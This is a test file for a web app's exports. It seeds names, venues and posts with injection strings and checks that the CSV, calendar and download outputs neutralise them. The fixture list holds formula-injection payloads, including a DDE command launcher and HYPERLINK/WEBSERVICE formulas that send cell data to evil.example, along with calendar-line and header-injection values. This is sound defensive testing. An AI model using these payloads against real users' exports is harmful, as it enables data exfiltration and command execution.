import { parse } from 'csv-parse/sync'
import ICAL from 'ical.js'
import { describe, expect, test } from 'vitest'
import { newId } from '#app/kernel/ids.ts'
import { aPost, aPostCategory } from '#tests/factories/a-post.ts'
import { aTicketType } from '#tests/factories/a-ticket-type.ts'
import { aMember, aSponsor } from '#tests/factories/a-user.ts'
import { aWaitlistEntry } from '#tests/factories/a-waitlist-entry.ts'
import { anEvent } from '#tests/factories/an-event.ts'
import { anAttendee, aPaidOrder } from '#tests/factories/an-order.ts'
import { adminRoutes } from '#tests/support/admin-routes.ts'
import { testApp } from '#tests/support/app.ts'

const { ctx, request, signedIn } = await testApp()
const { cookie } = await signedIn('admin')

/** Text that tries to become a formula in a spreadsheet or a line of its own in a file. */
const typed = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"press")',
  '=WEBSERVICE("https://evil.example")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '"=1+1',
  '","=1+1',
  '"\r\n"=1+1","another row"\r\n"',
  'a\n=1+1',
  'a;b,c\td',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  "'=1+1",
  'END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil',
  'x\nATTENDEE:mailto:victim@evil.example',
  'x\r\nX-EVIL:1\r\n',
  'x\u2028X-EVIL:1',
  'x\u0085X-EVIL:1',
  'x\\nX-EVIL:1',
  'x";\r\nContent-Type: text/html\r\n\r\n<script>',
]
const isFormula = (cell: string) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell)
const isAmount = (cell: string) => /^-?\d+(\.\d\d)?$/.test(cell)

/** A network in which every name that a person can choose is that text. */
async function aHostileNetwork() {
  const events: string[] = []
  for (const [index, text] of typed.entries()) {
    const event_id = await anEvent(ctx, {
      ...{ slug: `hostile-${index}`, title: text.padEnd(3, '.'), summary: text, description_html: '' },
      ...{ venue_name: text, venue_address: text, city: text, country: text, waitlist_enabled: true },
    })
    events.push(event_id)
    const ticketTypeId = await aTicketType(ctx, { event_id, name: text })
    const attendee = anAttendee({ fullName: text, companyName: text })
    await aPaidOrder(
      ctx,
      { ticketTypeId, attendees: [attendee] },
      { buyer: { name: text, email: `buyer${index}@school.example`, phone: text } },
    )
    const soldOut = await aTicketType(ctx, { event_id, name: text, capacity: 1 })
    await aPaidOrder(ctx, { ticketTypeId: soldOut })
    const entry = await aWaitlistEntry(ctx, { ticketTypeId: soldOut })
    await ctx.db
      .updateTable('waitlist_entries')
      .set({ first_name: text, last_name: text, message: text })
      .where('id', '=', entry.id)
      .execute()
    for (const somebody of [await aMember(ctx, 'vip'), await aSponsor(ctx)]) {
      await ctx.db.updateTable('users').set({ name: text }).where('id', '=', somebody.userId).execute()
    }
    const category_id = await aPostCategory(ctx, { name: `${text} ${index}` })
    await aPost(ctx, { title: text, excerpt: text, author_name: text, tags: [text], category_id })
  }
  return events
}
const events = await aHostileNetwork()

describe('a spreadsheet', () => {
  const sheets = Object.entries(adminRoutes).filter(([path]) => path.endsWith('.csv'))
  test.each(sheets.map(([path, route]) => [path, route.at ?? path]))(
    '%s calculates nothing',
    async (_path, at) => {
      const things: Record<string, string> = { event: events[0] ?? '', new: newId() }
      const paths = at.includes('{event}')
        ? events.map((id) => at.replace('{event}', id))
        : [at.replace('{new}', things.new ?? '')]
      for (const path of paths) {
        const answer = await request(path, { cookie })
        if (answer.status === 404) continue
        expect([path, answer.status, answer.headers.get('content-type')]).toEqual([
          path,
          200,
          'text/csv; charset=utf-8',
        ])
        expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
        expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/)
        const text = await answer.text()
        // A strict reader: as many fields in each row as in the first, every quote closed.
        const rows: string[][] = parse(text, { bom: true, relax_column_count: false, relax_quotes: false })
        const cells = rows.flat()
        expect(cells.filter((cell) => isFormula(cell) && !isAmount(cell))).toEqual([])
        expect(rows.filter(([first]) => first === 'another row' || first?.startsWith('=1+1'))).toEqual([])
      }
    },
  )

  test('contains the typed text as text', async () => {
    const text = await (await request('/admin/members.csv', { cookie })).text()
    const rows: string[][] = parse(text, { bom: true })
    const read = rows.flat()
    const cells = new Set([...read, ...read.map((cell) => cell.replace(/^'/, ''))])
    expect(typed.filter((one) => !cells.has(one) && !cells.has(one.trim()))).toEqual([])
    const people = await ctx.db
      .selectFrom('users')
      .select((eb) => eb.fn.countAll<number>().as('count'))
      .executeTakeFirstOrThrow()
    expect(rows).toHaveLength(1 + Number(people.count))
  })
})

describe('a calendar', () => {
  const properties = new Set(
    'BEGIN END VERSION PRODID METHOD NAME URL DESCRIPTION UID SEQUENCE DTSTAMP DTSTART DTEND SUMMARY LOCATION STATUS LAST-MODIFIED CREATED TRANSP REFRESH-INTERVAL X-PUBLISHED-TTL X-WR-CALNAME X-WR-CALDESC X-WR-TIMEZONE TIMEZONE-ID IMAGE COLOR CATEGORIES'.split(
      ' ',
    ),
  )
  test('has the lines of its events and no others', async () => {
    const paths = ['/events.ics', ...typed.map((_, index) => `/events/hostile-${index}/calendar.ics`)]
    for (const path of paths) {
      const answer = await request(path)
      expect([path, answer.status, answer.headers.get('content-type')]).toEqual([
        path,
        200,
        'text/calendar; charset=utf-8',
      ])
      const text = await answer.text()
      expect([path, /[^\r]\n|\r[^\n]/.test(text)]).toEqual([path, false])
      const names = text
        .replaceAll('\r\n ', '')
        .trimEnd()
        .split('\r\n')
        .map((line) => /^[A-Z-]+/.exec(line)?.[0] ?? line)
      expect([path, names.filter((name) => !properties.has(name))]).toEqual([path, []])
      const entries = ICAL.Component.fromString(text).getAllSubcomponents('vevent')
      expect(entries).toHaveLength(path === '/events.ics' ? typed.length : 1)
    }
  })
})

test('the headers of a download stay intact for every file name', async () => {
  for (const [index, id] of events.entries()) {
    for (const path of [
      `/events/hostile-${index}/calendar.ics`,
      `/admin/events/${id}/attendees.csv`,
      `/admin/events/${id}/attendees.pdf`,
      `/admin/events/${id}/badges.pdf`,
    ]) {
      const answer = await request(path, { cookie })
      const disposition = answer.headers.get('content-disposition')
      expect([path, answer.status, disposition]).toEqual([
        path,
        200,
        expect.stringMatching(/^(attachment|inline); filename="[\w.-]+"$/),
      ])
      await answer.body?.cancel()
    }
  }
})
